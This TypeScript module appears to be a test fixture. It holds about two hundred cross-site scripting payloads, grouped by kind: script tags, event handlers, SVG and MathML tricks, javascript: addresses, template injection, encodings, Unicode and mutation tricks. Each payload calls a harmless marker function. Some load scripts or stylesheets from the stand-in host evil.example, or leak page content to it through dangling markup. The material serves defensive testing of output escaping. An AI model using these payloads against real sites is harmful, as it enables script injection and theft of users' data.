/**
 * Texts that run where a page takes text for markup, for an address, for a template or for a style: each calls `__ran`
 * with its own number (`RUN` in these lists). A few run nothing but break pages that are careless with names, marks or
 * directions. Kinds after the OWASP XSS filter evasion sheet, PortSwigger's and Cure53's (html5sec.org) collections.
 */
const scripts = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<ScRiPt >RUN</sCrIpT >',
  '"><script>RUN</script>',
  "'><script>RUN</script>",
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</script><script>RUN</script>',
  '<script src=data:text/javascript,RUN></script>',
  '<script src="//evil.example/x.js"></script>',
  '<script type=module>RUN</script>',
  '<script type="text/javascript" async>RUN</script>',
  '<script>/*RUN*/RUN//</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script\n>RUN</script\n>',
  '<script/x>RUN</script>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<template><script>RUN</script></template>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<link rel="stylesheet" href="https://evil.example/x.css" onload=RUN>',
];

const handlers = [
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN">',
  "<img src='x' onerror='RUN'>",
  '<IMG SRC=x ONERROR=RUN>',
  '<img/src=x/onerror=RUN>',
  '<img src=x\tonerror=RUN>',
  '<img src=x\nonerror=RUN>',
  '<img src=x onerror=RUN//',
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '`><img src=x onerror=RUN>',
  '--><img src=x onerror=RUN>',
  ']]><img src=x onerror=RUN>',
  '<img src onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<img src=x onerror=window["__ran"](NUMBER)>',
  '<img src=x onerror=eval(atob("X19yYW4oKQ=="))>',
  '<img srcset=x onerror=RUN>',
  '<picture><source srcset=x><img onerror=RUN src=x></picture>',
  '<video src=x onerror=RUN></video>',
  '<video><source onerror=RUN src=x></video>',
  '<audio src=x onerror=RUN></audio>',
  '<input autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<select autofocus onfocus=RUN></select>',
  '<button autofocus onfocus=RUN>x</button>',
  '<a href=# tabindex=0 autofocus onfocus=RUN>x</a>',
  '<div tabindex=0 autofocus onfocus=RUN>x</div>',
  '<details open ontoggle=RUN>x</details>',
  '<body onload=RUN>',
  '<marquee onstart=RUN>x</marquee>',
  '<iframe onload=RUN></iframe>',
  '<style onload=RUN></style>',
  '<object data=x onerror=RUN></object>',
  '<div onpointerenter=RUN style="position:fixed;inset:0">x</div>',
  '<div onmouseover=RUN style="position:fixed;inset:0">x</div>',
  '<p contenteditable onbeforeinput=RUN onfocus=RUN autofocus>x</p>',
  '<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>',
  '<xss id=x tabindex=1 autofocus onfocus=RUN>x</xss>',
  '<custom-element onanimationend=RUN style="animation:x 1s">x</custom-element>',
  '" onfocus=RUN autofocus x="',
  "' onfocus=RUN autofocus x='",
  '" onmouseover="RUN',
  '" onerror="RUN" src="x',
  'x onerror=RUN src=x',
];

const foreignElements = [
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  '<svg><script xlink:href="data:,RUN"></script></svg>',
  '<svg><script>&#95;&#95;ran&#40;NUMBER&#41;</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x>',
  '<svg><a xlink:href="javascript:RUN"><text x=0 y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>',
  '<svg><image href=x onerror=RUN>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN />#x"></use></svg>',
  '<svg><title><img src=x onerror=RUN></title></svg>',
  '<svg><desc><img src=x onerror=RUN></desc></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>',
  '<math href="javascript:RUN">x</math>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:RUN">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  '<math><mi xlink:href="data:x,<script>RUN</script>">x</mi></math>',
];

const addresses = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\tjavascript:RUN',
  'java\nscript:RUN',
  'java\tscript:RUN',
  'javascript://%0aRUN',
  'javascript://example.com/%0aRUN',
  'javascript&colon;RUN',
  'javascript&#58;RUN',
  '&#106;avascript:RUN',
  '\u0001javascript:RUN',
  'javascript:void(RUN)',
  'vbscript:RUN',
  'livescript:RUN',
  'view-source:javascript:RUN',
  'feed:javascript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  'blob:https://evil.example/RUN',
  '//evil.example/RUN',
  '/\\evil.example/RUN',
  'https://evil.example/#"><script>RUN</script>',
  '<a href="javascript:RUN">x</a>',
  '<a href=javascript&colon;RUN>x</a>',
  '[x](javascript:RUN)',
  '![x](x" onerror="RUN)',
  '<form action="javascript:RUN"><input type=submit></form>',
  '<form><button formaction="javascript:RUN">x</button></form>',
];

const templates = [
  '{{RUN}}',
  '{{constructor.constructor("RUN")()}}',
  "{{'a'.constructor.prototype.charAt=[].join;$eval('RUN')}}",
  `\${RUN}`,
  `\`\${RUN}\``,
  '#{RUN}',
  '<%= RUN %>',
  '{%raw%}<img src=x onerror=RUN>{%endraw%}',
  '[[RUN]]',
  "{{_self.env.registerUndefinedFilterCallback('RUN')}}",
  '{{contact.name}}{{RUN}}',
  '*{RUN}',
  '@(RUN)',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"RUN"}}',
  "');RUN;//",
  '");RUN;//',
  "\\');RUN;//",
  '</script>{{RUN}}',
  '\u2028RUN\u2029',
];

const entities = [
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;script&#62;RUN&#60;/script&#62;',
  '&#x3c;img src=x onerror=RUN&#x3e;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '\\x3cimg src=x onerror=RUN\\x3e',
  '%3Cimg%20src=x%20onerror=RUN%3E',
  '%253Cimg src=x onerror=RUN%253E',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '<img src=x onerror=&#95;&#95;ran(NUMBER)>',
  '<img src=x onerror="&#x5f;_ran(NUMBER)">',
];

const unicode = [
  '\uE000<img src=x onerror=RUN>\uE001',
  '\uE001<script>RUN</script>\uE000',
  '\uE000\uE000\uE001 RUN',
  '\u202E<script>RUN</script>',
  '\u2066<img src=x onerror=RUN>\u2069\u2069\u2069',
  '\u200F\u200E<svg onload=RUN>',
  '\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E',
  '\u02BAonfocus=RUN autofocus x=\u02BA',
  '<img\u00A0src=x\u00A0onerror=RUN>',
  '<\u200Bscript>RUN</\u200Bscript>',
  '\uFEFF<script>RUN</script>',
  '<scr\u0131pt>RUN</scr\u0131pt>',
  `Z\u0351\u036B${'\u0334\u0335\u0336\u0337'.repeat(20)}algo <img src=x onerror=RUN>`,
  `<img src=x onerror=RUN>${'w'.repeat(400)}`,
  `${'W\u200D'.repeat(100)}<svg onload=RUN>`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}<img src=x onerror=RUN>',
  '\u0085<script>RUN</script>',
];

const styles = [
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=RUN>x</p>',
  '<div style="background:url(javascript:RUN)">x</div>',
  '<div style="width:expression(RUN)">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999">x<img src=x onerror=RUN></div>',
  '"style="background:url(https://evil.example/x)" x="',
  '</style><img src=x onerror=RUN>',
  '<p style="transition:color 1s" ontransitionend=RUN>x</p>',
];

const mutations = [
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<table><td background="javascript:RUN"><img src=x onerror=RUN>',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
  '<img src="x` `<script>RUN</script>"` `>',
  '<a title="</a><img src=x onerror=RUN>">x</a>',
  '<select><template><img src=x onerror=RUN></template></select>',
];

const leaks = [
  "<img src='https://evil.example/?",
  '<a href="https://evil.example/?',
  '<form action=https://evil.example><input type=submit><textarea name=x>',
  '<!--',
  '<plaintext>',
];

const names = ['__proto__', 'constructor', 'hasOwnProperty', '__proto__[polluted]=1', 'toString'];

const kinds = [
  ...[scripts, handlers, foreignElements, addresses, templates, entities],
  ...[unicode, styles, mutations, leaks, names],
];

/** Two hundred, kind after kind. */
export const hostileTexts: readonly string[] = kinds
  .flat()
  .map((text, at) => text.replaceAll('RUN', `__ran(${at})`).replaceAll('NUMBER', String(at)));

/** Those that fit into a tag, or the name of a view. */
export const shortTexts = hostileTexts.filter((text) => text.length <= 60);

/**
 * Places of the first of each kind, for what is shown one at a time. Which way a page goes wrong depends on the kind of a
 * text: the spellings of a kind only get past filters, and the inbox filters nothing.
 */
export const oneOfEachKind: readonly number[] = kinds.map((_, at) => kinds.slice(0, at).flat().length);

/**
 * What of a text is shown wherever it is: its edges are cleaned where it comes in, names are cut short, and where there is
 * one line for it, each white space is as good as any other.
 */
export function kernelOf(text: string): string {
  return inOneLine(text.replaceAll(/^[\s\p{C}]+|[\s\p{C}]+$/gu, '').slice(0, 100));
}

export function inOneLine(text: string): string {
  return text.replaceAll(/\s+/gu, ' ');
}
